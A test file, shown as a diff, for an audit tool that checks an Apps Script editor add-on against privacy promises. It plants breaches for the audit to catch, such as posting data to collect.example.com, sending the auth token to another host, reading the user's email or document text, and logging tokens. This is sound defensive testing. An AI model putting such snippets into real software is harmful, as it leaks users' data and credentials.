@@ -1,0 +1,300 @@
+import {auditProject} from '../../audit/audit.ts';
+import {namesakes, reads, services, tellsNothing, timers} from '../../audit/permitted.ts';
+import {hostMethods, readSources} from '../../audit/program.ts';
+import {breachesOf, project, type Edits} from './planted.ts';
+
+/** At the end of a file of the server's; all that `main.ts` exports is in the bundle. */
+const inMain = (code: string): Edits => ({'src/main.ts': code});
+const inDocs = (code: string): Edits => ({'src/apps-script/docs.ts': code});
+const inDist = (from: RegExp, to: string): Edits => ({
+  'dist/docs/Code.js': text => text.replace(from, to),
+});
+
+/** A breach in the sources, built into what is shipped: which promise it breaks, and what the audit says of it. */
+const inSources: Array<[what: string, edits: Edits, promise: string, said: RegExp]> = [
+  [
+    'an added scope',
+    {
+      'appsscript.json': text =>
+        text.replace('"oauthScopes": [', '"oauthScopes": ["https://mail.google.com/",'),
+    },
+    'P5',
+    /asks for https:\/\/mail\.google\.com\/, which is beyond/,
+  ],
+  [
+    'a scope that nothing needs',
+    {
+      'src/apps-script/http.ts': text =>
+        text.replaceAll('UrlFetchApp.fetchAll', '((requests: object[]): Response[] => [])'),
+    },
+    'P5',
+    /asks for .*script\.external_request, which nothing needs/,
+  ],
+  [
+    'a missing scope',
+    {'appsscript.json': text => text.replace(/,\s*"https:[^"]*external_request"/, '')},
+    'P5',
+    /does not ask for .*external_request, which URL_Fetch\.UrlFetchApp\.fetchAll needs/,
+  ],
+  [
+    'the person’s address',
+    inMain('export function who(): string { return Session.getActiveUser().getEmail(); }'),
+    'P5',
+    /Base\.Session\.getActiveUser is none of what/,
+  ],
+  [
+    'the document’s text',
+    inDocs('export const peek = () => DocumentApp.getActiveDocument().getBody().getText();'),
+    'P6',
+    /Document\.Body\.getText is none of what/,
+  ],
+  [
+    'the document’s text, through a type of our own',
+    inDocs(`
+      interface Reader { getText(): string }
+      const read = (reader: Reader) => reader.getText();
+      export const peek = () => read(DocumentApp.getActiveDocument().getActiveTab().asDocumentTab().getBody());`),
+    'P6',
+    /Document\.Body\.getText is none of what/,
+  ],
+  [
+    'the document, where no type says what becomes of it',
+    inDocs('export const peek = () => (DocumentApp.getActiveDocument() as any).getBody();'),
+    'P6',
+    /a Document is given away/,
+  ],
+  [
+    'a service under another name',
+    inDocs(
+      'export const peek = () => { const app = PropertiesService; return app.getDocumentProperties(); };',
+    ),
+    'P7',
+    /PropertiesService is given another name/,
+  ],
+  [
+    'a service’s member that is picked as it runs',
+    inDocs("export const peek = (part: 'Document') => DocumentApp[`getActive${part}`]();"),
+    'P6',
+    /a member of DocumentApp is picked by a name that is made up as it runs/,
+  ],
+  [
+    'another host',
+    inMain(`export function tell(): void {
+      http.send([{method: 'post', url: 'https://collect.example.com/in', headers: {}, body: '{}', seconds: 1}]);
+    }`),
+    'P11',
+    /asks collect\.example\.com, which is none of the bank's/,
+  ],
+  [
+    'the token, sent to another host than the API',
+    inMain(`export function tell(token: string): void {
+      http.send([{method: 'get', url: \`https://\${deployment.bank.cdn}/x\`, headers: {token}, seconds: 1}]);
+    }`),
+    'P1',
+    /token is sent to another host/,
+  ],
+  [
+    'a new stored key',
+    inMain("export function keep(text: string): void { stores.user.write('recent', text); }"),
+    'P7',
+    /"recent" is stored in the user's properties/,
+  ],
+  [
+    'a new field in what is sealed',
+    {'src/core/session.ts': text => text.replace('time: clock.now(),', 'time: clock.now(), opened: 1,')},
+    'P12',
+    /does not list .*`opened`.* of `envelope ticket`/,
+  ],
+  [
+    'a new field in what is sent',
+    {'src/core/bank/client.ts': text => text.replace("SortBy: 'DEFAULT',", "SortBy: 'DEFAULT', Reader: 1,")},
+    'P12',
+    /does not list .*`Reader`.* of `bank \/Search2`/,
+  ],
+  [
+    'the user name, kept',
+    inMain(`import {seal} from './core/vault.ts';
+    export function keep(key: Parameters<typeof seal>[1], userName: string): string {
+      return seal('remembered', key, random, JSON.stringify({userName}));
+    }`),
+    'P3',
+    /userName is kept in: envelope remembered/,
+  ],
+  [
+    'the person’s language, kept',
+    inMain(`import {seal} from './core/vault.ts';
+    export function keep(key: Parameters<typeof seal>[1], locale: string): string {
+      return seal('ticket', key, random, JSON.stringify({locale}));
+    }`),
+    'P8',
+    /locale is kept in: envelope ticket/,
+  ],
+  [
+    'a token in the log, past the Log port',
+    {
+      'src/core/api.ts': 'export function spill(token: string): void { console.error(token); }',
+      'src/main.ts': "export {spill} from './core/api.ts';",
+    },
+    'P3',
+    /console\.error writes to the log past the Log port/,
+  ],
+  [
+    'a token in the log, through Logger',
+    inMain('export function spill(token: string): void { Logger.log(token); }'),
+    'P3',
+    /Base\.Logger\.log is none of what/,
+  ],
+  [
+    'a token in the log, through the Log port',
+    inMain("export function spill(token: string): void { log.error('spill', {token}); }"),
+    'P12',
+    /does not list .*`token`.* of `log`/,
+  ],
+  [
+    'an error whose text quotes what was asked',
+    inMain('export function fail(text: string): void { throw new Error(`no ${text}`); }'),
+    'P3',
+    /the text of an error is put together as it runs/,
+  ],
+  [
+    'a time trigger',
+    inMain(
+      "export function plan(): void { ScriptApp.newTrigger('rpc').timeBased().everyMinutes(5).create(); }",
+    ),
+    'P9',
+    /Script\.ScriptApp\.newTrigger is none of what/,
+  ],
+  [
+    'redirects that are followed',
+    {'src/apps-script/http.ts': text => text.replace('followRedirects: false', 'followRedirects: true')},
+    'P2',
+    /does not refuse redirects/,
+  ],
+  [
+    'an event of Google’s, which holds the document',
+    {'src/main.ts': text => text.replace('function onOpen()', 'function onOpen(_event?: any)')},
+    'P6',
+    /an entry point takes an event of no known type/,
+  ],
+  [
+    'a font from a CDN',
+    {'sidebar/styles.css': text => `@import url("https://fonts.example.com/css?family=Roboto");\n${text}`},
+    'P11',
+    /loads a style or a font: .*fonts\.example\.com/,
+  ],
+  [
+    'something in the browser’s storage',
+    {'sidebar/main.tsx': "localStorage.setItem('seen', '1');"},
+    'P7',
+    /uses localStorage/,
+  ],
+  ['a request of the browser’s own', {'sidebar/main.tsx': "void fetch('/collect');"}, 'P11', /uses fetch/],
+  [
+    'a timer that asks the server',
+    {'sidebar/main.tsx': "setInterval(() => google.script.run.rpc('start', {}, ''), 60000);"},
+    'P9',
+    /sidebar\/main\.tsx \(load\): a timer/,
+  ],
+  [
+    'a field that the document does not explain',
+    {'docs/privacy.md': text => text.replace(/^\| `log` \| `event`.*\n/m, '')},
+    'P12',
+    /does not list .*`event`.* of `log`/,
+  ],
+  [
+    'a field that the document lists and nothing stores',
+    {
+      'docs/privacy.md':
+        '| Where | Fields | What for | How long |\n| - | - | - | - |\n| `log` | `shoeSize` | Fit | Always |',
+    },
+    'P12',
+    /lists what nothing stores or sends any more: `shoeSize` of `log`/,
+  ],
+];
+
+/** A breach in what is shipped alone, as if somebody had changed it by hand. */
+const byHand: typeof inSources = [
+  [
+    'a function inside of which more happens',
+    inDist(/function putCursorAfter\(image\) \{/, '$&\n    console.error(image.getParent().getText());'),
+    'P6',
+    /uses getText, a method of the host/,
+  ],
+  [
+    'a service under another name',
+    inDist(/var imageshop_ = \(\(\) => \{/, '$&\n  const p = PropertiesService;'),
+    'P7',
+    /uses PropertiesService in a way that cannot be followed/,
+  ],
+  [
+    'a function that the page can call',
+    {'dist/docs/Code.js': 'function everything() { return 1; }'},
+    'P5',
+    /lets the page call everything, which is no entry point/,
+  ],
+  [
+    'a further host',
+    {
+      'dist/docs/appsscript.json': text =>
+        text.replace(/"https:\/\/v\.[^"]*"/, '$&, "https://api.example.com/"'),
+    },
+    'P11',
+    /lets the server ask https:\/\/api\.example\.com\//,
+  ],
+  [
+    'a value that the audit has no rule for',
+    inDist(/TICKET_LIFE = /, '$&1000 * '),
+    'P1–P12',
+    /dist\/docs\/Code\.js is not what the sources build \(from line \d+ on\)/,
+  ],
+  [
+    'a page that shows another',
+    {
+      'dist/docs/Sidebar.html': text =>
+        text.replace('<div id="app">', '<iframe src="//example.com"></iframe>$&'),
+    },
+    'P11',
+    /holds more than one style and one script of its own/,
+  ],
+];
+
+describe('the audit', () => {
+  test('finds no breach in what is built for either editor', async () => {
+    const {breaches, editors} = await auditProject(project);
+    expect(breaches).toEqual([]);
+    expect(editors.map(({editor}) => editor)).toEqual(['docs', 'slides']);
+  });
+
+  test('permits nothing that no build uses', async () => {
+    const audit = await auditProject(project);
+    const used = new Set(audit.editors.flatMap(({members}) => members.map(({name}) => name)));
+    expect(Object.keys(reads).filter(name => !used.has(name))).toEqual([]);
+    expect(services.filter(name => !used.has(name))).toEqual([]);
+    expect(Object.keys(timers).filter(place => !audit.timers.found.includes(place))).toEqual([]);
+    expect(Object.keys(reads).filter(name => tellsNothing.test(name))).toEqual([]);
+    const methods = hostMethods(readSources(project));
+    expect(Object.keys(namesakes).filter(name => !methods.has(name))).toEqual([]);
+  });
+
+  test('counts for an editor only what its build contains', async () => {
+    const {editors} = await auditProject(project);
+    const [docs, slides] = editors.map(({members}) => members.map(({name}) => name));
+    expect(docs).toContain('Document.Position.insertInlineImage');
+    expect(docs!.filter(name => name.startsWith('Slides.'))).toEqual([]);
+    expect(slides).toContain('Slides.Slide.insertImage');
+    expect(slides!.filter(name => name.startsWith('Document.'))).toEqual([]);
+  });
+
+  test.each(inSources)('finds in the sources: %s', async (_, edits, promise, said) => {
+    expect(await breachesOf(edits)).toContainEqual({promise, text: expect.stringMatching(said)});
+  });
+
+  test.each(byHand)('finds in what is shipped: %s', async (_, edits, promise, said) => {
+    const breaches = await breachesOf({}, edits);
+    expect(breaches).toContainEqual({promise, text: expect.stringMatching(said)});
+    expect(breaches).toContainEqual({
+      promise: 'P1–P12',
+      text: expect.stringMatching('not what the sources build'),
+    });
+  });
+});
